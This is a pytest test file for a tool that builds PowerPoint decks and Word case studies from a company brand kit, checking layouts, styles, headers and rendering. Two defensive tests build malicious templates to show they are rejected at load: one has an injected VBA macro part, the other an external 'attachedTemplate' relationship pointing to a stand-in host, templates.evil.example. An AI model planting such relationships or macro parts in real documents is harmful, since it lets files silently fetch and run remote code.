"""Company templates end to end, with the example kit ``brand_kits/meridian``.

Its ``template.pptx`` (slide master, four named layouts, one sample slide) and
``reference.docx`` (styles, Letter page, margins, header and footer, instruction text) are
made by ``tools/make_meridian_templates.py``.  A pre-sale build with that kit must use the
template's layouts by name and its styles/page setup, drop the templates' own slides and
text, warn (not crash) when a layout is missing, and refuse macro-enabled templates and
templates with external relationships at kit load.
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import docx
import pytest
from pptx import Presentation
from pptx.enum.shapes import PP_PLACEHOLDER

from roi_in_a_box.brand.kit import contrast_ratio, load_kit
from roi_in_a_box.deliver.pipeline import build
from roi_in_a_box.model.study import load_study
from roi_in_a_box.brand.template_check import check_ooxml_template
from roi_in_a_box.spec.errors import InputError
from tests.audit_policy import other_findings

ROOT = Path(__file__).resolve().parents[1]
KIT = ROOT / "brand_kits" / "meridian"
SCRIPT = ROOT / "tools" / "make_meridian_templates.py"
EN = ROOT / "sample_inputs" / "ledgerly_en.yaml"
LAYOUT_NAMES = ["Title Slide", "Title and Content", "Title Only", "Blank"]
# text that lives only in the templates' own slides/body (see tools/make_meridian_templates.py)
SAMPLE_SLIDE_TEXT = ("TEMPLATE SAMPLE SLIDE", "Meridian template sample body", "Sample speaker notes")
REFERENCE_TEXT = ("REFERENCE BODY TEXT", "Meridian Document Template", "Using the styles")
AUDIT = shutil.which("openxml-audit") or str(Path(sys.executable).with_name("openxml-audit"))
SLIDE_16_9 = (12192000, 6858000)  # 13.333 x 7.5 in


def _build(kit_dir: Path, out: Path, formats=("pptx", "docx")):
    report = build(load_study(EN), load_kit(kit_dir), out, stages=("pre_sale",), formats=formats, force=True)
    files = {Path(r.path).name: report.out_dir / r.path for r in report.outputs}
    return report, files


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    out = tmp_path_factory.mktemp("meridian")
    report, files = _build(KIT, out)
    return report, files


def _xml_text(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "\n".join(z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith(".xml"))


def _rewrite_zip(src: Path, dest: Path, mutate, extra: dict[str, bytes]) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, mutate(info.filename, zin.read(info.filename)))
        for name, data in extra.items():
            zout.writestr(name, data)
    dest.write_bytes(buf.getvalue())


def _copy_kit(tmp_path: Path) -> Path:
    dest = tmp_path / "kit"
    shutil.copytree(KIT, dest)
    return dest


# --------------------------------------------------------------------------- the kit itself


def test_kit_loads_with_both_templates_and_aa_colours():
    brand = load_kit(KIT)
    assert brand.template_pptx == KIT / "template.pptx" and brand.reference_docx == KIT / "reference.docx"
    assert check_ooxml_template(brand.template_pptx, "pptx") == []
    assert check_ooxml_template(brand.reference_docx, "docx") == []
    c = brand.colors
    for fg in (c.text, c.muted, c.primary):
        assert contrast_ratio(fg, c.background) >= 4.5


def test_template_pptx_structure():
    prs = Presentation(str(KIT / "template.pptx"))
    assert (prs.slide_width, prs.slide_height) == SLIDE_16_9
    assert len(prs.slide_masters) == 1
    assert [layout.name for layout in prs.slide_layouts] == LAYOUT_NAMES
    assert len(prs.slides) == 1 and prs.slides[0].shapes.title.text.startswith("TEMPLATE SAMPLE SLIDE")
    names = {s.name for s in prs.slide_master.shapes}
    assert {"Brand band", "Meridian wordmark", "Confidentiality notice", "Footer rule"} <= names
    title_slide = prs.slide_layouts.get_by_name("Title Slide")
    assert "Hero panel" in {s.name for s in title_slide.shapes}
    body = [ph for ph in prs.slide_layouts.get_by_name("Title and Content").placeholders
            if ph.placeholder_format.idx == 1]
    assert body and body[0].placeholder_format.type in (PP_PLACEHOLDER.OBJECT, PP_PLACEHOLDER.BODY)
    theme = next(p for p in prs.slide_master.part.package.iter_parts() if p.partname.endswith("theme1.xml"))
    assert b'<a:latin typeface="Lato"' in theme.blob and b'<a:cs typeface="Sarabun"' in theme.blob


def test_generator_is_deterministic_and_matches_the_kit(tmp_path):
    for run in ("a", "b"):
        subprocess.run([sys.executable, str(SCRIPT), "--out", str(tmp_path / run)], check=True,
                       capture_output=True, timeout=120)
    for name in ("logo.png", "template.pptx", "reference.docx"):
        a, b = (tmp_path / "a" / name).read_bytes(), (tmp_path / "b" / name).read_bytes()
        assert a == b, f"{name} differs between two runs"
    # The committed kit holds what the script makes (compared by content, not bytes: a newer
    # Pillow or zlib may encode the same picture or parts differently).
    import zipfile

    from PIL import Image
    for name in ("template.pptx", "reference.docx"):
        with zipfile.ZipFile(tmp_path / "a" / name) as made, zipfile.ZipFile(KIT / name) as kit:
            assert made.namelist() == kit.namelist(), f"brand_kits/meridian/{name} is stale: run {SCRIPT.name}"
            for part in made.namelist():
                if part.endswith((".xml", ".rels")):
                    assert made.read(part) == kit.read(part), f"{name}:{part} is stale: run {SCRIPT.name}"
    with Image.open(tmp_path / "a" / "logo.png") as made, Image.open(KIT / "logo.png") as kit:
        assert made.size == kit.size and made.tobytes() == kit.tobytes()


# --------------------------------------------------------------------------- PPTX from the template


def test_deck_uses_template_layouts_and_drops_its_slide(built):
    report, files = built
    deck = files["deck_insert.pptx"]
    prs = Presentation(str(deck))
    assert (prs.slide_width, prs.slide_height) == SLIDE_16_9
    layouts = [s.slide_layout.name for s in prs.slides]
    assert layouts == ["Title Slide"] + ["Title Only"] * (len(layouts) - 1) and len(layouts) == 7  # 7: the risk slide
    assert [layout.name for layout in prs.slide_layouts] == LAYOUT_NAMES
    for slide in prs.slides:  # titles go into the layout's title placeholder, at its position
        title = slide.shapes.title
        assert title is not None and title.is_placeholder and title.text.strip()
        layout_title = next(ph for ph in slide.slide_layout.placeholders
                            if ph.placeholder_format.type in (PP_PLACEHOLDER.TITLE, PP_PLACEHOLDER.CENTER_TITLE))
        assert (title.left, title.top) == (layout_title.left, layout_title.top)
    assert "Ledgerly" in prs.slides[0].shapes.title.text
    # the title slide's lead goes into the layout's subtitle placeholder, not a loose text box
    subtitle = [sh for sh in prs.slides[0].placeholders if sh.placeholder_format.type == PP_PLACEHOLDER.SUBTITLE]
    assert len(subtitle) == 1 and "independent analysis" in subtitle[0].text_frame.text
    # the master (band, wordmark, confidentiality line) is the template's
    assert {"Brand band", "Meridian wordmark", "Confidentiality notice"} <= {s.name for s in prs.slide_master.shapes}
    text = _xml_text(deck)
    for sample in SAMPLE_SLIDE_TEXT:
        assert sample not in text
    rec = next(r for r in report.outputs if r.format == "pptx")
    # the one thing it says: the kit's coral payback marker (3.2:1 on white) is darkened to pass AA
    assert all(w.startswith("contrast: chart text") and "#E86A50" in w for w in rec.warnings), rec.warnings


# --------------------------------------------------------------------------- DOCX from the reference


def _style_props(style):
    f = style.font
    return (f.name, f.size, f.bold, f.italic, str(f.color.rgb) if f.color and f.color.type else None)


def test_case_study_uses_reference_styles_page_and_header(built):
    _, files = built
    ref = docx.Document(str(KIT / "reference.docx"))
    out = docx.Document(str(files["case_study.docx"]))
    for name in ("Normal", "Title", "Heading 1", "Heading 2", "Heading 3", "Quote", "Caption"):
        assert _style_props(out.styles[name]) == _style_props(ref.styles[name]), name
    h1 = out.styles["Heading 1"]
    assert h1.font.name == "Lato" and str(h1.font.color.rgb) == "14325C"
    rs, os_ = ref.sections[0], out.sections[0]
    for attr in ("page_width", "page_height", "top_margin", "bottom_margin", "left_margin", "right_margin",
                 "header_distance", "footer_distance"):
        assert getattr(os_, attr) == getattr(rs, attr), attr
    assert abs(os_.page_width.inches - 8.5) < 0.01 and abs(os_.left_margin.inches - 0.9) < 0.01
    assert abs(os_.top_margin.inches - 1.0) < 0.01
    assert "MERIDIAN FREIGHT GROUP" in "".join(p.text for p in os_.header.paragraphs)
    assert "400 Harbour Way" in "".join(p.text for p in os_.footer.paragraphs)
    body = "\n".join(p.text for p in out.paragraphs)
    assert "Ledgerly" in body
    for t in REFERENCE_TEXT:
        assert t not in body
    used = {p.style.name for p in out.paragraphs}
    assert {"Title", "Heading 1"} <= used


# --------------------------------------------------------------------------- missing layout, unsafe templates


def test_missing_title_only_layout_is_a_warning_not_a_crash(tmp_path):
    kit = _copy_kit(tmp_path)
    prs = Presentation(str(kit / "template.pptx"))
    prs.slide_layouts.remove(prs.slide_layouts.get_by_name("Title Only"))
    prs.save(str(kit / "template.pptx"))
    report, files = _build(kit, tmp_path / "out", formats=("pptx",))
    manifest = json.loads(report.manifest.read_text("utf-8"))
    warnings = manifest["outputs"][0]["warnings"]
    assert any("'Title Only'" in w and "fallback" in w for w in warnings), warnings
    deck = Presentation(str(files["deck_insert.pptx"]))
    assert [s.slide_layout.name for s in deck.slides] == ["Title Slide"] + ["Title and Content"] * 6
    assert all(s.shapes.title.text.strip() for s in deck.slides)


def test_macro_enabled_template_pptx_rejected_at_load(tmp_path):
    kit = _copy_kit(tmp_path)

    def mutate(name, data):
        if name == "[Content_Types].xml":
            return data.replace(b"</Types>", b'<Override PartName="/ppt/vbaProject.bin" '
                                b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
        return data
    _rewrite_zip(KIT / "template.pptx", kit / "template.pptx", mutate, {"ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 8})
    with pytest.raises(InputError) as exc:
        load_kit(kit)
    problems = [p for p in exc.value.problems if p.severity == "error"]
    assert problems and all(p.path == "template_pptx" for p in problems)
    assert any("vbaProject" in p.message for p in problems)


def test_reference_docx_with_external_relationship_rejected_at_load(tmp_path):
    kit = _copy_kit(tmp_path)
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="http://templates.evil.example/Normal.dotm" TargetMode="External"/>'
            b'</Relationships>')
    _rewrite_zip(KIT / "reference.docx", kit / "reference.docx", lambda n, d: d,
                 {"word/_rels/settings.xml.rels": rels})
    with pytest.raises(InputError) as exc:
        load_kit(kit)
    problems = [p for p in exc.value.problems if p.severity == "error"]
    assert problems and all(p.path == "reference_docx" for p in problems)
    assert any("attachedTemplate" in p.message and "evil.example" in p.message for p in problems)


# --------------------------------------------------------------------------- validators and LibreOffice


@pytest.mark.skipif(not Path(AUDIT).exists(), reason="openxml-audit not installed")
def test_openxml_audit_clean(built):
    _, files = built
    paths = [KIT / "template.pptx", KIT / "reference.docx", files["deck_insert.pptx"], files["case_study.docx"]]
    for path in paths:
        proc = subprocess.run([AUDIT, "-o", "json", "-m", "0", "--ooxml-security", str(path)],
                              capture_output=True, text=True, timeout=120, check=False)
        report = json.loads(proc.stdout)[0]
        for f in other_findings(report):  # only the study's own mailto: call-to-action link is external
            assert f["severity"] != "error" and f["description"].startswith("External relationship target: mailto:"), \
                (path.name, f)


@pytest.mark.office
def test_libreoffice_renders_template_look(built, tmp_path):
    from tests.lo_helpers import PDFTOPPM, SOFFICE, convert_to_pdf, pdf_fonts, pdf_to_pngs

    if SOFFICE is None:
        pytest.skip("soffice not installed")
    from PIL import Image
    from pypdf import PdfReader

    _, files = built
    deck_pdf, doc_pdf = convert_to_pdf([files["deck_insert.pptx"], files["case_study.docx"]], tmp_path)
    deck_pages = [p.extract_text() for p in PdfReader(str(deck_pdf)).pages]
    assert len(deck_pages) == 7  # with the risk slide
    assert all("CONFIDENTIAL" in t for t in deck_pages[1:])  # master text on every content slide
    assert not any("TEMPLATE SAMPLE SLIDE" in t for t in deck_pages)
    doc_pages = [p.extract_text() for p in PdfReader(str(doc_pdf)).pages]
    assert all("400 Harbour Way" in t and "MERIDIAN FREIGHT GROUP" in t for t in doc_pages)
    assert not any("REFERENCE BODY TEXT" in t for t in doc_pages)
    fonts = pdf_fonts(deck_pdf) + pdf_fonts(doc_pdf)
    if fonts:
        assert "Lato" in fonts
    if PDFTOPPM is None:
        return
    pngs = pdf_to_pngs(deck_pdf, tmp_path / "png", dpi=50)
    navy = (0x14, 0x32, 0x5C)

    def near(px, rgb, tol=24):
        return all(abs(a - b) <= tol for a, b in zip(px[:3], rgb))
    with Image.open(pngs[0]) as im:  # title slide: navy hero panel
        im = im.convert("RGB")
        assert near(im.getpixel((im.width // 3, im.height // 6)), navy)
    with Image.open(pngs[1]) as im:  # content slide: navy band at the top, white page
        im = im.convert("RGB")
        assert near(im.getpixel((im.width // 3, 2)), navy)
        assert near(im.getpixel((im.width // 2, im.height - 4)), (255, 255, 255), tol=8)
